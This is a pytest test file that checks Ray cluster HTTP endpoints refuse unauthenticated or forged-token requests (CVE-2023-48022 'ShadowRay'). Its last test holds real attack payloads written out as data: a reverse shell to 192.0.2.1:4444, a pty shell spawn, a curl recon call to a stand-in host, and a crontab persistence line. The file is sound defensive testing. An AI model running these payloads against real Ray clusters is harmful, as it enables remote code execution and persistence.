"""Every HTTP door that runs code or changes state, without the token (CVE-2023-48022 "ShadowRay").

Ray calls remote code execution over these doors a feature; the token is all that stands before it.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest

from support.live import Live, ask

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from attacks.conftest import Job

pytestmark = pytest.mark.ray

MISSING, FORBIDDEN = 401, 403


@dataclass(frozen=True)
class Door:
    """Where a request changes something (Ray 2.60.0: dashboard/modules, runtime_env/agent)."""

    component: str
    method: str
    path: str

    def __str__(self) -> str:
        return f"{self.component} {self.method} {self.path}"


DOORS = (
    Door("dashboard", "POST", "/api/jobs/"),
    Door("dashboard", "POST", "/api/jobs/allowed/stop"),
    Door("dashboard", "DELETE", "/api/jobs/allowed"),
    Door("dashboard", "PUT", "/api/packages/gcs/_ray_pkg_0123456789abcdef.zip"),
    Door("dashboard", "PUT", "/api/serve/applications/"),
    Door("dashboard", "DELETE", "/api/serve/applications/"),
    Door("dashboard", "POST", "/api/v1/applications/a/deployments/d/scale"),
    Door("dashboard", "POST", "/report_events"),
    Door("dashboard", "POST", "/api/task_events"),
    Door("agent_http", "POST", "/api/job_agent/jobs/"),
    Door("agent_http", "POST", "/api/job_agent/jobs/allowed/stop"),
    Door("agent_http", "DELETE", "/api/job_agent/jobs/allowed"),
    Door("runtime_env", "POST", "/get_or_create_runtime_env"),
    Door("runtime_env", "POST", "/delete_runtime_env_if_possible"),
    Door("runtime_env", "POST", "/get_runtime_envs_info"),
)


@dataclass(frozen=True)
class Attempt:
    """How somebody without the token, or with part of it, may try."""

    name: str
    headers: Callable[[str], dict[str, str]]
    status: int = FORBIDDEN


ATTEMPTS = (
    Attempt("no token", lambda _: {}, MISSING),
    Attempt("empty header", lambda _: {"Authorization": ""}, MISSING),
    Attempt("wrong token", lambda _: {"Authorization": f"Bearer {'0' * 64}"}),
    Attempt("no value", lambda _: {"Authorization": "Bearer "}),
    Attempt("basic", lambda _: {"Authorization": "Basic dXNlcjpwYXNzd29yZA=="}),
    Attempt("most of the token", lambda token: {"Authorization": f"Bearer {token[:-1]}"}),
    Attempt("more than the token", lambda token: {"Authorization": f"Bearer {token}0"}),
    Attempt("no scheme", lambda token: {"Authorization": token}),
    Attempt("wrong cookie", lambda _: {"Cookie": "ray-authentication-token=wrong"}),
    Attempt("wrong header of Ray", lambda _: {"X-Ray-Authorization": "Bearer wrong"}),
)


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
@pytest.mark.parametrize("door", DOORS, ids=str)
def test_door_is_shut(live: Live, marker: Path, door: Door, attempt: Attempt) -> None:
    order = {"entrypoint": f"touch '{marker}'", "submission_id": marker.name}

    answer = ask(
        live.port(door.component),
        door.method,
        door.path,
        headers={"Content-Type": "application/json", **attempt.headers(live.token.reveal())},
        body=json.dumps(order).encode(),
    )

    assert answer.status == attempt.status
    assert live.token.reveal().encode() not in answer.body
    assert not marker.exists()


def test_of_all_the_jobs_only_the_allowed_one_is_there(live: Live, job: Job) -> None:
    for door in ("dashboard", "agent_http"):
        order = b'{"entrypoint": "true", "submission_id": "refused"}'
        path = "/api/jobs/" if door == "dashboard" else "/api/job_agent/jobs/"
        assert ask(live.port(door), "POST", path, body=order).status == MISSING

    jobs = ask(live.port("dashboard"), "GET", "/api/jobs/", headers=live.authorized).data

    submitted = {entry["submission_id"] for entry in jobs}
    assert job.id in submitted
    assert "refused" not in submitted
    assert not any(str(name).startswith("pwned-") for name in submitted)


@pytest.mark.parametrize(
    "entrypoint",
    [
        "curl http://canary.invalid/$(hostname)",
        "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
        "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
        "echo '* * * * * true' | crontab -",
    ],
)
def test_payloads_of_the_campaigns_are_refused(live: Live, entrypoint: str) -> None:
    """ShadowRay 2.0 and RondoDox: their recon call and their shells, with their user agent."""
    answer = ask(
        live.port("dashboard"),
        "POST",
        "/api/jobs/",
        headers={"User-Agent": "Mozilla/5.0 (scanner@example.invalid)"},
        body=json.dumps({"entrypoint": entrypoint}).encode(),
    )

    assert answer.status == MISSING
